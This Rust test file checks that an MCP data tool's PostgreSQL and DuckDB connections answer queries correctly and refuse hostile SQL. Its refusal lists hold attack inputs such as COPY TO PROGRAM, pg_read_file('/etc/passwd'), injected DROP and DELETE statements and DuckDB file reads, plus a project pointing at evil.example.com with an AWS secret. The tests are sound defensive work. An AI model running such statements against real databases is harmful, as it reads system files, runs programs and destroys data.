//! Warehouses through their ADBC drivers: real servers, and what agents, clones and drivers must not do.

use std::path::PathBuf;

use adbc_core::{
    Connection as _, Database as _, Driver as _, Statement as _,
    options::{AdbcVersion, OptionDatabase, OptionValue},
};
use adbc_driver_manager::ManagedDriver;
use ingestdeck_test_support::postgres::PostgresServer;

use super::*;

/// Variables: a folder with the ADBC driver of PostgreSQL, and one with `libduckdb.so`.
pub(crate) const ADBC: &str = "INGESTDECK_TEST_ADBC";
pub(crate) const DUCKDB: &str = "INGESTDECK_TEST_DUCKDB";

pub(crate) fn named(variable: &str) -> PathBuf {
    PathBuf::from(std::env::var_os(variable).unwrap_or_else(|| panic!("{variable} is not set")))
}

pub(crate) const SHOP: &str = "CREATE TABLE customers (id int PRIMARY KEY, name text NOT NULL); \
    CREATE TABLE orders (id bigint PRIMARY KEY, customer_id int REFERENCES customers (id), total numeric(10, 2)); \
    COMMENT ON TABLE orders IS 'What customers bought'; \
    CREATE SCHEMA mart; CREATE TABLE mart.\"Größe \"\"x\"\" ; 100%\" (a int); \
    INSERT INTO customers SELECT g, 'c' || g FROM generate_series(1, 50) g; \
    INSERT INTO orders SELECT g, 1 + g % 50, g * 1.5 FROM generate_series(1, 1000) g; \
    CREATE ROLE locked LOGIN PASSWORD 'opensesame'";

/// A project with the connections `connections` and these settings of the user.
fn project(connections: &str, settings: &str) -> TestDir {
    let place = TestDir::new();
    place.notes(&["one"]);
    let yaml = fs::read_to_string(place.path("ktx.yaml")).unwrap();
    let connections = format!("connections:\n{connections}");
    place.write("ktx.yaml", yaml.replace("connections:\n", &connections));
    let file = place.temporary().parent().unwrap().join("settings.toml");
    fs::write(file, settings).unwrap();
    place
}

async fn start(place: &TestDir, variables: &[(&str, &str)]) -> McpClient {
    let settings = place.temporary().parent().unwrap().join("settings.toml");
    let mut command = place.command(&["mcp", "--config", settings.to_str().unwrap()]);
    command.envs(variables.iter().copied());
    McpClient::start_command(command).await
}

async fn ask(client: &McpClient, sql: &str) -> String {
    let arguments = json!({"connectionId": "wh", "sql": sql});
    client.call("sql_execution", arguments).await.0
}

/// A client of a project whose connection `wh` is `server`.
async fn client_of(server: &PostgresServer, more: &str) -> (TestDir, McpClient) {
    let drivers = named(ADBC);
    let settings = format!(
        "[warehouse]\nallow = [\"postgres url=env:SHOP_URL\"]\ndrivers = [{:?}]\n{more}",
        drivers.to_str().unwrap()
    );
    let place = project("  wh: {driver: postgres, url: 'env:SHOP_URL'}\n", &settings);
    let url = server.url();
    let client = start(&place, &[("SHOP_URL", &url)]).await;
    (place, client)
}

#[tokio::test]
#[ignore = "needs INGESTDECK_TEST_POSTGRES and INGESTDECK_TEST_ADBC"]
async fn postgres_answers_in_its_own_words() {
    let server = PostgresServer::start().unwrap();
    server.sql(SHOP);
    let (_place, client) = client_of(&server, "").await;
    let rows = ask(
        &client,
        "SELECT * FROM orders ORDER BY id LIMIT 2 -- the first",
    )
    .await;
    assert_eq!(
        rows,
        "| id | customer_id | total |\n| --- | --- | --- |\n| 1 | 2 | 1.50 |\n| 2 | 3 | 3.00 |\n\n2 row(s)."
    );
    let missing = ask(&client, "SELECT * FROM refunds").await;
    assert!(
        missing.contains("relation \"refunds\" does not exist"),
        "{missing}"
    );
    let column = ask(&client, "SELECT custmer_id FROM orders").await;
    assert!(
        column.contains("Perhaps you meant to reference the column \"orders.customer_id\""),
        "{column}"
    );
    let targets = json!([{"display": "public.orders"}, {"display": "ordrs"}, {"db": "mart", "name": "Größe \"x\" ; 100%"}]);
    let details = client
        .good(
            "entity_details",
            json!({"connectionId": "wh", "targets": targets}),
        )
        .await;
    for expected in [
        "- id (bigint, nullable=false, PK)",
        "- total (numeric(10,2), nullable=true)",
        "Not found: ordrs",
        "Closest matches: public.orders",
        "- a (integer, nullable=true)",
    ] {
        assert!(details.contains(expected), "{expected}: {details}");
    }
    let found = client
        .good("discover_data", json!({"query": "customer"}))
        .await;
    assert!(
        found.contains("column: public.orders.customer_id [connectionId=wh]"),
        "{found}"
    );
    // A result that is cut leaves a connection that works.
    let cut = client
        .good("sql_execution", json!({"connectionId": "wh", "sql": "SELECT * FROM generate_series(1, 3000000)", "rowLimit": 2}))
        .await;
    assert!(cut.contains("the first 2 rows are shown"), "{cut}");
    assert!(ask(&client, "SELECT 1 AS one").await.contains("| 1 |"));
    client.0.cancel().await.unwrap();
}

#[tokio::test]
#[ignore = "needs INGESTDECK_TEST_POSTGRES and INGESTDECK_TEST_ADBC"]
async fn no_statement_changes_postgres_or_reads_its_files() {
    let server = PostgresServer::start().unwrap();
    server.sql(SHOP);
    server.sql("CREATE FUNCTION sneak() RETURNS int LANGUAGE sql AS 'DELETE FROM orders RETURNING 1'; CREATE SEQUENCE s");
    let (_place, client) = client_of(&server, "query_timeout = \"1s\"\n").await;
    for sql in [
        "DELETE FROM orders",
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        "SELECT 1; DROP TABLE orders",
        "SELECT * INTO copied FROM orders",
        "SELECT * FROM orders FOR UPDATE",
        "SELECT sneak()",
        "SELECT set_config('transaction_read_only', 'off', false), sneak()",
        "SELECT nextval('s')",
        "COPY (SELECT 1) TO PROGRAM 'touch /tmp/copied'",
        "SELECT 1) TO PROGRAM 'touch /tmp/copied' --",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT * FROM pg_catalog.\"pg_read_file\"('/etc/passwd')",
        "SELECT query_to_xml('DELETE FROM orders', true, true, '')",
        "SELECT lo_import('/etc/passwd')",
        "DO $$ BEGIN DELETE FROM orders; END $$",
    ] {
        let refused = ask(&client, sql).await;
        assert!(
            refused.starts_with("SQL execution failed: "),
            "{sql}: {refused}"
        );
        assert!(!refused.contains("root:"), "{sql}: {refused}");
    }
    assert_eq!(server.sql("SELECT count(*) FROM orders"), "1000");
    assert_eq!(
        server.sql("SELECT count(*) FROM pg_class WHERE relname = 'copied'"),
        "0"
    );
    let slow = ask(&client, "SELECT pg_sleep (600)").await;
    assert!(
        slow.starts_with("SQL execution failed: stopped after 1 s"),
        "{slow}"
    );
    let running = "SELECT count(*) FROM pg_stat_activity WHERE state = 'active' AND query LIKE '%pg_sleep%' AND pid <> pg_backend_pid()";
    assert_eq!(server.sql(running), "0");
    client.0.cancel().await.unwrap();
}

#[tokio::test]
#[ignore = "needs INGESTDECK_TEST_POSTGRES and INGESTDECK_TEST_ADBC"]
async fn wrong_logins_of_postgres_are_named() {
    let server = PostgresServer::start().unwrap();
    server.sql(SHOP);
    let port = server.port();
    let settings = format!(
        "[warehouse]\nallow = [\"postgres host=127.0.0.1 port={port} database=postgres username=locked password=env:PW\", \"postgres host=127.0.0.1 port=1 database=x\"]\ndrivers = [{:?}]\n",
        named(ADBC).to_str().unwrap()
    );
    let connections = format!(
        "  wh: {{driver: postgres, host: 127.0.0.1, port: {port}, database: postgres, username: locked, password: 'env:PW'}}\n  \
         dead: {{driver: postgres, host: 127.0.0.1, port: 1, database: x}}\n"
    );
    let place = project(&connections, &settings);
    let client = start(&place, &[("PW", "wrong-secret-word")]).await;
    let wrong = ask(&client, "SELECT 1").await;
    assert!(
        wrong.contains("password authentication failed for user \"locked\""),
        "{wrong}"
    );
    assert!(!wrong.contains("wrong-secret-word"), "{wrong}");
    let dead = client
        .call(
            "sql_execution",
            json!({"connectionId": "dead", "sql": "SELECT 1"}),
        )
        .await
        .0;
    assert!(
        dead.contains("unable to connect: ") && dead.contains("Connection refused"),
        "{dead}"
    );
    client.0.cancel().await.unwrap();
    let client = start(&place, &[("PW", "opensesame")]).await;
    assert!(ask(&client, "SELECT 1 AS one").await.contains("| 1 |"));
    client.0.cancel().await.unwrap();
    let client = start(&place, &[]).await;
    let unset = ask(&client, "SELECT 1").await;
    assert_eq!(
        unset,
        "SQL execution failed: the variable PW contains no secret"
    );
    client.0.cancel().await.unwrap();
}

/// Writes a DuckDB file with the statements.
pub(crate) fn duckdb_file(path: &Path, statements: &[&str]) {
    let library = named(DUCKDB).join("libduckdb.so");
    let version = AdbcVersion::V100;
    let entry = Some(&b"duckdb_adbc_init"[..]);
    let mut driver = ManagedDriver::load_dynamic_from_filename(library, entry, version).unwrap();
    let path = path.to_str().unwrap().to_owned();
    let options = [(
        OptionDatabase::Other("path".into()),
        OptionValue::String(path),
    )];
    let database = driver.new_database_with_opts(options).unwrap();
    let mut connection = database.new_connection().unwrap();
    for sql in statements {
        let mut statement = connection.new_statement().unwrap();
        statement.set_sql_query(sql).unwrap();
        statement.execute_update().unwrap();
    }
}

#[tokio::test]
#[ignore = "needs INGESTDECK_TEST_DUCKDB"]
async fn duckdb_answers_and_reads_no_other_file() {
    let settings = format!(
        "[warehouse]\ndrivers = [{:?}]\n",
        named(DUCKDB).to_str().unwrap()
    );
    let place = project("  wh: {driver: duckdb, path: shop.duckdb}\n", &settings);
    let secret = place.write("secret.csv", "word\nopensesame\n");
    let secret = secret.to_str().unwrap();
    duckdb_file(
        &place.path("shop.duckdb"),
        &[
            "CREATE TABLE customers (id int PRIMARY KEY, name text)",
            "CREATE TABLE orders (id int PRIMARY KEY, customer_id int REFERENCES customers (id), tags text[], placed date)",
            "INSERT INTO customers VALUES (1, 'Ann')",
            "INSERT INTO orders VALUES (1, 1, ['a', 'b'], DATE '2026-03-01')",
            &format!("CREATE VIEW leak AS SELECT * FROM read_csv('{secret}')"),
        ],
    );
    let client = start(&place, &[]).await;
    let rows = ask(&client, "SELECT * FROM orders").await;
    assert!(rows.contains("| 1 | 1 | [a, b] | 2026-03-01 |"), "{rows}");
    let missing = ask(&client, "SELECT * FROM order_s").await;
    assert!(missing.contains("Did you mean \"orders\"?"), "{missing}");
    let details = client
        .good(
            "entity_details",
            json!({"connectionId": "wh", "targets": [{"display": "orders"}]}),
        )
        .await;
    assert!(
        details.contains("- id (INTEGER, nullable=false, PK)"),
        "{details}"
    );
    for sql in [
        format!("SELECT * FROM read_csv('{secret}')"),
        format!("SELECT * FROM '{secret}'"),
        format!("SELECT * FROM \"{secret}\""),
        "SELECT * FROM leak".into(),
        format!("ATTACH '{secret}' AS other"),
        "INSTALL httpfs".into(),
        "LOAD httpfs".into(),
        "SET enable_external_access = true".into(),
        "COPY orders TO '/tmp/orders.csv'".into(),
        "INSERT INTO customers VALUES (2, 'Bo')".into(),
        "WITH n AS (INSERT INTO customers VALUES (2, 'Bo') RETURNING *) SELECT * FROM n".into(),
        format!("SELECT * FROM query('SELECT * FROM read_csv(''{secret}'')')"),
    ] {
        let refused = ask(&client, &sql).await;
        assert!(
            refused.starts_with("SQL execution failed: "),
            "{sql}: {refused}"
        );
        assert!(!refused.contains("opensesame"), "{sql}: {refused}");
    }
    assert!(
        ask(&client, "SELECT count(*) AS n FROM customers")
            .await
            .contains("| 1 |")
    );
    client.0.cancel().await.unwrap();
}

#[tokio::test]
async fn clone_uses_no_warehouse_until_its_user_allows_it() {
    let place = project(
        "  wh: {driver: postgres, host: evil.example.com, database: x, password: 'env:AWS_SECRET'}\n",
        "[warehouse]\nallow = [\"postgres host=evil.example.com database=x\"]\n",
    );
    let client = start(&place, &[("AWS_SECRET", "opensesame")]).await;
    assert!(!client.tools().await.contains_key("sql_execution"));
    client.0.cancel().await.unwrap();
}

#[tokio::test]
async fn driver_is_never_loaded_from_a_project() {
    let place = project(
        "  wh: {driver: postgres, host: 127.0.0.1, port: 1, database: x}\n",
        "[warehouse]\nallow = [\"postgres host=127.0.0.1 port=1 database=x\"]\n",
    );
    let library = place.write("libadbc_driver_postgresql.so", "not a library");
    place.write("libpostgresql.so", "not a library");
    let manifest = format!("[Driver]\nshared = {:?}\n", library.to_str().unwrap());
    for path in [
        "postgresql.toml",
        "adbc/drivers/postgresql.toml",
        ".venv/etc/adbc/drivers/postgresql.toml",
    ] {
        place.write(path, &manifest);
    }
    let project = place.path("");
    let venv = place.path(".venv");
    let variables = [
        ("ADBC_DRIVER_PATH", project.to_str().unwrap()),
        ("LD_LIBRARY_PATH", project.to_str().unwrap()),
        ("VIRTUAL_ENV", venv.to_str().unwrap()),
        ("CONDA_PREFIX", venv.to_str().unwrap()),
    ];
    let client = start(&place, &variables).await;
    let missing = ask(&client, "SELECT 1").await;
    assert_eq!(
        missing,
        "SQL execution failed: there is no ADBC driver `postgresql`"
    );
    client.0.cancel().await.unwrap();
}

#[tokio::test]
async fn broken_driver_of_the_settings_is_named() {
    let place = project(
        "  wh: {driver: postgres, host: 127.0.0.1, port: 1, database: x}\n",
        "",
    );
    let folder = place.temporary().parent().unwrap().join("drivers");
    fs::create_dir(&folder).unwrap();
    fs::write(folder.join("libadbc_driver_postgresql.so"), "not a library").unwrap();
    let settings = format!(
        "[warehouse]\nallow = [\"postgres host=127.0.0.1 port=1 database=x\"]\ndrivers = [{:?}]\n",
        folder.to_str().unwrap()
    );
    fs::write(
        place.temporary().parent().unwrap().join("settings.toml"),
        settings,
    )
    .unwrap();
    let client = start(&place, &[]).await;
    let broken = ask(&client, "SELECT 1").await;
    assert!(
        broken.contains("the ADBC driver `postgresql` cannot be loaded: "),
        "{broken}"
    );
    client.0.cancel().await.unwrap();
}
